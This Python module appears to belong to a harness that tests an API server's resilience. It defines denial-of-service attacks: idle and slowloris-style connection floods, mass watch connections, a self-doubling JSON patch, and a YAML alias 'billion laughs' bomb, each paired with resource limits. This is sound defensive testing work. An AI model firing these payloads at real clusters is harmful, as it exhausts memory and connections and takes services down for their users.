"""Attack the API server that runs beside a kubelet: too many clients, requests that grow.

The good client sends a request in each round of the probe.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import socket
import time
from collections.abc import Iterator
from functools import partial
from typing import Final

import yaml

from tools.attack.beside import beside
from tools.attack.model import Limits, Target

_SECONDS: Final = 8.0
_CLIENTS: Final = 2048
_CHANGES: Final = 100
_STEPS: Final = 18
"""Number of steps in a patch. On a server without a limit, they copy 256 MB. More steps could fill
the memory of the machine."""
_PODS: Final = "/api/v1/namespaces/default/pods"
_LARGE = Limits(memory=150.0, kept=100.0)
# The server starts a thread for each client. A good request waits until those of all clients before
# it have started.
_MANY = Limits(
    registration=200.0,
    admission=1200.0,
    memory=400.0,
    kept=300.0,
    threads=_CLIENTS + 80,
    descriptors=_CLIENTS + 100,
)
_api = partial(beside, serves="api")


def _address(target: Target) -> tuple[str, int]:
    """Return the address in the kubeconfig of the API server."""
    (cluster,) = yaml.safe_load(target.kubeconfig.read_text())["clusters"]
    host, port = cluster["cluster"]["server"].removeprefix("http://").rsplit(":", 1)
    return host, int(port)


@contextlib.contextmanager
def _connections(target: Target, count: int, first: bytes) -> Iterator[None]:
    address = _address(target)
    with contextlib.ExitStack() as stack:
        for _ in range(count):
            with contextlib.suppress(OSError):
                peer = stack.enter_context(socket.create_connection(address, timeout=20.0))
                peer.sendall(first)
        yield


def _request(target: Target, method: str, path: str, body: object, content: str) -> None:
    """Send a request. The server may reject it."""
    host, port = _address(target)
    client = http.client.HTTPConnection(host, port, timeout=60.0)
    with contextlib.closing(client):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        client.request(method, path, data, {"Content-Type": content})
        client.getresponse().read()


def _create(target: Target, name: str) -> None:
    spec = {"containers": [{"name": "main", "image": "i"}]}
    pod = {"metadata": {"name": name, "annotations": {"a": "x" * 1000}}, "spec": spec}
    _request(target, "POST", _PODS, pod, "application/json")


@_api("api-silent", f"{_CLIENTS} clients of the API server that send nothing", _MANY)
def _silent(target: Target) -> None:
    with _connections(target, _CLIENTS, b""):
        time.sleep(_SECONDS)


@_api("api-slow", f"{_CLIENTS} clients of the API server that send half a request", _MANY)
def _slow(target: Target) -> None:
    head = f"POST {_PODS} HTTP/1.1\r\nContent-Length: 9\r\n\r\nx"
    with _connections(target, _CLIENTS, head.encode()):
        time.sleep(_SECONDS)


@_api("api-watches", f"{_CLIENTS} watches of the API server, most of which it rejects", _MANY)
def _watches(target: Target) -> None:
    watch = f"GET {_PODS}?watch=1 HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with _connections(target, _CLIENTS, watch.encode()):
        end = time.monotonic() + _SECONDS
        for number in range(_CHANGES):
            if time.monotonic() > end:
                return
            _create(target, f"pod-{number}")


@_api("api-copies", f"a JSON patch of {_STEPS} steps, each of which doubles an object", _LARGE)
def _copies(target: Target) -> None:
    _create(target, "copied")
    where = "/metadata/annotations"
    steps = [{"op": "copy", "from": where, "path": f"{where}/{each}"} for each in range(_STEPS)]
    _request(target, "PATCH", f"{_PODS}/copied", steps, "application/json-patch+json")


@_api("api-bomb", "an object in YAML of references to references", _LARGE)
def _bomb(target: Target) -> None:
    lines = [f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 9)}]" for n in range(30)]
    text = "\n".join(["a0: &a0 x", *lines, "spec: *a30", "metadata: {name: bomb}"])
    _request(target, "POST", _PODS, text.encode(), "application/yaml")
